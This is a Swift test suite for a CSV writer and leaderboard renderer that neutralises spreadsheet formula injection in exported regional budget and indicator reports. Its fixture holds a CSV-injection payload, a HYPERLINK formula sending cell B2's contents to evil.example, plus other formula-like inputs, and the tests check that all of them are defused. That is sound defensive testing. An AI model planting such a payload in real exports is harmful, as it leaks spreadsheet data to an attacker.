import Foundation
import RekapDomain
import Testing
@testable import RekapReport

/// The one CSV writer: RFC 4180 quoting, and text a spreadsheet would run as a formula neutralised
/// (OWASP: a leading `=`, `+`, `-`, `@`, tab or CR gets an apostrophe) while numbers stay numbers.
@Suite struct CSVWriterTests {
    static let hyperlink = "=HYPERLINK(\"http://evil.example/?\"&B2,\"Klik\")"

    @Test(arguments: ["=1+2", "+62 812", "-SUM(A1)", "@cmd", "\tx", "\r\nx"])
    func textStartingLikeAFormulaGetsAnApostrophe(_ text: String) throws {
        let field = CSVWriter.field(.text(text))
        // Read back, the value is the text behind an apostrophe, whatever quoting it needed.
        #expect(try CSVReader.records(field + "\r\n") == [["'" + text]])
    }

    @Test func aHyperlinkFormulaIsNeutralisedAndQuoted() {
        #expect(CSVWriter.field(.text(Self.hyperlink)) == "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"Klik\"\")\"")
    }

    @Test func numbersAreWrittenAsTheyAre() {
        #expect(CSVWriter.field(.number("-12.5")) == "-12.5")
        #expect(CSVWriter.field(.number("-190292631")) == "-190292631")
        #expect(CSVWriter.field(.number("98.51")) == "98.51")
        #expect(CSVWriter.field(.number("")) == "")
        // Only a plain decimal is a number: anything else in a numeric column is text to the writer.
        #expect(CSVWriter.field(.number("-1+1")) == "'-1+1")
        #expect(CSVWriter.field(.number("=1")) == "'=1")
        // Text that merely contains the characters elsewhere is left alone.
        #expect(CSVWriter.field(.text("a=b-c")) == "a=b-c")
        #expect(CSVWriter.field(.text("14.72")) == "14.72")
    }

    @Test func recordsEndAsAsked() {
        let records: [[CSVField]] = [[.text("a"), .number("-1")], [.text("b,c"), .number("2")]]
        #expect(CSVWriter.document(records, lineEnd: .crlf) == "a,-1\r\n\"b,c\",2\r\n")
        #expect(CSVWriter.document(records, lineEnd: .lf) == "a,-1\n\"b,c\",2\n")
    }

    /// The report's CSV: a hostile indicator name and region name come out neutralised; negative
    /// amounts (sisa when realisasi exceeds pagu) stay numbers.
    @Test func theReportNeutralisesTextAndKeepsNegativeAmounts() throws {
        var report = SampleReport.report
        report.iku[0].name = Self.hyperlink
        report.programs[0].amounts = BudgetAmounts(pagu: 100, realisasi: decimal("112.5"))
        let records = try CSVReader.records(CSVRenderer.render(report))
        let iku = try #require(records.first { $0.first == "iku-kecamatan" })
        #expect(iku.contains("'" + Self.hyperlink))
        #expect(!records.joined().contains(Self.hyperlink))
        let program = try #require(records.first { $0.first == "budget-programs" && $0[1] == "7.01.01" })
        #expect(program.contains("-12.5"))  // sisa = 100 − 112.5
        #expect(!program.contains("'-12.5"))
    }

    func decimal(_ text: String) -> Decimal { try! DecimalText.parse(text) }
}

/// `rekap rank`'s formats from the one leaderboard model.
@Suite struct LeaderboardRendererTests {
    /// An IKU board whose Σ capaian has 20 decimals (as PostgreSQL's numeric division gives it).
    static var board: Leaderboard {
        let sum = try! DecimalText.parse("315.12345678901234567891")
        let entries = [RankingEntry(region: RegionCode("14.72.02")!, name: CSVWriterTests.hyperlink,
                                    value: .ratio(numerator: sum, denominator: 300))]
        return Leaderboard(kind: .iku, id: "iku", title: LocalizedText("IKU 2023 mean capaian % per kecamatan"), measure: LocalizedText("mean"),
                           numeratorName: "capaian_sum", denominatorName: "indicators", entries: entries, lowest: false,
                           figures: [RegionCode("14.72.02")!: (sum, 3)])
    }

    @Test func theTableRoundsTermsForPeopleWhileCSVAndJSONKeepThemExact() throws {
        let table = LeaderboardRenderer.render(Self.board, as: .table)
        let line = try #require(table.split(separator: "\n").last)
        #expect(line.split(separator: " ").suffix(3) == ["105.04", "315.12", "3"], "\(table)")
        #expect(!table.contains("315.1234"))
        let csv = LeaderboardRenderer.render(Self.board, as: .csv)
        #expect(csv.hasSuffix(",105.04,315.12345678901234567891,3\n"), "\(csv)")
        #expect(LeaderboardRenderer.render(Self.board, as: .json).contains("\"315.12345678901234567891\""))
    }

    @Test func exactTermsWithFewDecimalsPrintAsTheyAre() {
        #expect(LeaderboardRenderer.tableTerm(12_763_150_960) == "12763150960")
        #expect(LeaderboardRenderer.tableTerm(try! DecimalText.parse("91.7")) == "91.7")
        #expect(LeaderboardRenderer.tableTerm(try! DecimalText.parse("0.125")) == "0.13")
        // A long fraction rounds to exactly 2 decimals, like the % column beside it.
        #expect(LeaderboardRenderer.tableTerm(try! DecimalText.parse("292.69999999999999999998")) == "292.70")
    }

    @Test func csvNeutralisesNamesButNotNumbers() throws {
        let csv = LeaderboardRenderer.render(Self.board, as: .csv)
        let records = try CSVReader.records(csv.replacingOccurrences(of: "\n", with: "\r\n"))
        #expect(records[0] == ["rank", "region", "name", "value", "numerator", "denominator"])
        #expect(records[1] == ["1", "14.72.02", "'" + CSVWriterTests.hyperlink, "105.04", "315.12345678901234567891", "3"])
    }
}
